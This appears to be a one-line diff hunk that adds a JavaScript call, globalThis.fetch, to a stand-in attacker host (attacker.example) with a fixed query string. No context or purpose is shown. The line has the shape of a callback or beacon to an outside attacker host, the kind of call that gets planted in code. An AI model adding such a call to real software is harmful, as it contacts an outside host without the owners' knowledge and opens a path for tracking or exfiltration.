@@ -1,0 +1,1 @@
+globalThis.fetch('https://attacker.example/?q=1')
